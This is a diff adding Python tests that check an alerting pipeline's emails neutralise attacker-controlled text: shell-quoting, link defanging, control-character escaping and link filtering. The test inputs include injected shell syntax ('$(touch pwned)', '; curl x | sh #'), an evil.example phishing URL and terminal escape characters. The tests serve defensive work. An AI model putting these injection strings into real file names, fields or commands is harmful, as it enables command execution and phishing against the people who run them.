@@ -241,3 +241,40 @@ def test_every_subject_is_ascii_single_line_and_at_most_100_characters(city, tes
     assert_sns_subject(render_run_email(RUN_ID, outcomes, CONTEXT).subject)
     repeat = Repeat("run-0", datetime(2026, 11, 25, tzinfo=UTC), 2)
     assert_sns_subject(render_repeat_email(RUN_ID, outcomes, repeat, CONTEXT).subject)
+
+
+# -- what a sender chose is shown as data, never as the email's own links or commands ------------------------------
+def test_a_city_name_holding_shell_syntax_is_one_quoted_word_of_the_command_to_paste():
+    email = email_for(collection_failed("api_auth", city="$(touch pwned)", run_cities=["$(touch pwned)"]))
+
+    assert "restaurant-pipeline run --city '$(touch pwned)'" in email.body
+    assert '"$(touch pwned)"' not in email.body
+
+
+def test_an_object_key_holding_shell_syntax_is_quoted_in_the_reprocess_command():
+    event = transform("error", error=TransformError(phase="dbt", message="boom"))
+    key = event.sources[0].key.replace(".jsonl", "; curl x | sh #.jsonl")
+    event = event.model_copy(update={"sources": [event.sources[0].model_copy(update={"key": key})]})
+
+    email = email_for(event)
+
+    assert f"restaurant-pipeline reprocess 's3://{event.sources[0].bucket}/{key}'" in email.body
+
+
+def test_error_text_from_an_event_is_shortened_its_links_disarmed_and_its_control_characters_shown():
+    message = "Click https://evil.example/fix now \x1b[2J\u202e" + "x" * 3000
+    email = email_for(transform("error", error=TransformError(phase="dbt", message=message)))
+
+    assert "https://evil.example" not in email.body and "https[:]//evil.example/fix" in email.body
+    assert "\x1b" not in email.body and "\u202e" not in email.body and "\\u202e" in email.body
+    assert "x" * 1600 not in email.body and "more characters in the logs" in email.body
+
+
+def test_the_email_s_only_links_are_its_own_log_links():
+    context = EmailContext(log_location="https://console.aws.amazon.com/cloudwatch/home#logsV2:log-groups/")
+    event = collection_failed("api_unavailable", message="retry at http://phish.example/login")
+
+    email = email_for(event, context)
+
+    links = re.findall(r"https?://\S+", email.body)
+    assert links and all(link.startswith("https://console.aws.amazon.com/") for link in links)
